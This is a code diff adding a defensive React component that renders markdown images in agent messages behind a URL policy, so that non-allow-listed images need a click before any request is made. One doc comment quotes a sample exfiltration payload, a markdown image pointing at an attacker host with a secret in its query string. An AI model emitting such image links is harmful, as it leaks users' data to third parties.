@@ -1,0 +1,85 @@
+import * as React from 'react';
+import type { ExtraProps } from 'react-markdown';
+import { INCOMPLETE_IMAGE_PLACEHOLDER } from 'remend';
+import { revealInvisible } from '../../core/safety/invisible.js';
+import { useLabels, useUrlPolicy } from '../../react/agent-messages-provider.js';
+import { InsideLinkContext } from './link.js';
+import { RAW_SRC } from './sanitize.js';
+
+/* -------------------------------------------------------------------------------------------------
+ * MarkdownImage
+ * -----------------------------------------------------------------------------------------------*/
+
+type MarkdownImageProps = React.ComponentPropsWithoutRef<'img'> & ExtraProps;
+
+/**
+ * A markdown image through the URL policy. Only same-origin and allow-listed images load by
+ * themselves; any other is a button naming its host, and nothing is requested before the click
+ * (the `![](https://attacker/?q=secret)` exfiltration defence). A rejected source is a labelled
+ * placeholder that shows it.
+ */
+function MarkdownImage({ node, alt }: MarkdownImageProps) {
+  const policy = useUrlPolicy();
+  const labels = useLabels();
+  const insideLink = React.useContext(InsideLinkContext);
+  const [requested, setRequested] = React.useState(false);
+  const raw = String(node?.properties[RAW_SRC] ?? '');
+  const altText = typeof alt === 'string' ? alt : '';
+
+  // remend's stand-in for an image whose URL is still streaming: show its alt text for now.
+  if (raw === INCOMPLETE_IMAGE_PLACEHOLDER) {
+    return (
+      <span data-slot="text-block-image" data-state="pending">
+        {altText}
+      </span>
+    );
+  }
+
+  const decision = policy(raw, 'image');
+  if (!decision.allowed) {
+    return (
+      <span data-slot="text-block-image" data-state="blocked">
+        {labels.blockedImage}
+        {altText !== '' ? `: ${altText}` : ''}
+        <span data-slot="text-block-image-target"> ({revealInvisible(raw)})</span>
+      </span>
+    );
+  }
+
+  if (decision.autoLoad || requested) {
+    return (
+      <img
+        data-slot="text-block-image"
+        data-state="loaded"
+        src={decision.href}
+        alt={altText}
+        loading="lazy"
+        decoding="async"
+        referrerPolicy="no-referrer"
+      />
+    );
+  }
+
+  const host = revealInvisible(decision.host ?? decision.href);
+  if (insideLink) {
+    return (
+      <span data-slot="text-block-image" data-state="click-to-load">
+        {labels.media.image}
+        {altText !== '' ? `: ${altText}` : ''} ({host})
+      </span>
+    );
+  }
+  return (
+    <button
+      type="button"
+      data-slot="text-block-image"
+      data-state="click-to-load"
+      onClick={() => setRequested(true)}
+    >
+      <span data-slot="text-block-image-load">{labels.loadMedia(host)}</span>
+      {altText !== '' ? <span data-slot="text-block-image-alt"> {altText}</span> : null}
+    </button>
+  );
+}
+
+export { MarkdownImage };
